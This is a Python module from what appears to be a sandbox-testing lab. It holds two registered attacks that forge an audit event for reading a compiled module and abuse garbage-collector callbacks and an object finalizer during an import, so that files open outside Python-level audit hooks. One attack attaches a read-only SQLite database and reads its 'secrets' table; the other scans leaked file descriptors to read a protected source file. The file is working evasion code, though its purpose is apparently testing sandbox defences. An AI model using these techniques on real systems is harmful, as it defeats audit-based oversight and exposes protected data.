"""Reads hidden behind a forged audit event during the import of a module. The effect: the answer contains text of the file."""

import functools
import gc
import importlib
import os
import sqlite3
import sys

from lab import attack

CATEGORY = 'sourceRead'

MOST = 400


class Opener:
    """An object that opens a file when it is deleted, without a Python frame."""


def collecting(event, prepare, opened):
    """Makes the garbage collector, at each possible point of an import, raise the audit event for reading a compiled module, and open a file."""
    vouch = functools.partial(sys.audit, *event)
    for threshold in range(1, MOST):
        sys.modules.pop('spare', None)
        Opener.__del__ = staticmethod(prepare())
        waiting = {'start': Opener()}
        gc.collect()
        gc.callbacks[:] = [vouch, waiting.pop]
        gc.set_threshold(threshold)
        try:
            importlib.import_module('spare')
        except BaseException:
            pass
        finally:
            gc.callbacks[:] = []
            gc.set_threshold(0)
        if answer := opened():
            return answer
    return None


def attached(lab):
    database = sqlite3.connect(f'file:{lab.task}/nothing.db?mode=memory', uri=True)
    statement = f"ATTACH 'file:{lab.task}/business.db?mode=ro&immutable=1' AS theirs"

    def texts():
        try:
            return repr(database.execute('SELECT text FROM theirs.secrets').fetchall())
        except sqlite3.Error:
            return None

    return functools.partial(database.execute, statement), texts


@attack('a database, attached')
def _(lab):
    attach, texts = attached(lab)
    return collecting(('open', 'compiled.pyc', 'r', 0), lambda: attach, texts)


@attack('a descriptor that stays open')
def _(lab):
    def texts():
        for fd in range(3, 40):
            try:
                if (text := os.pread(fd, 4096, 0)).startswith(b'# What'):
                    return text.decode()
            except OSError:
                pass
        return None

    return collecting(('open', 'compiled.pyc', 'r', 0), lambda: functools.partial(os.open, lab.source, os.O_RDONLY), texts)
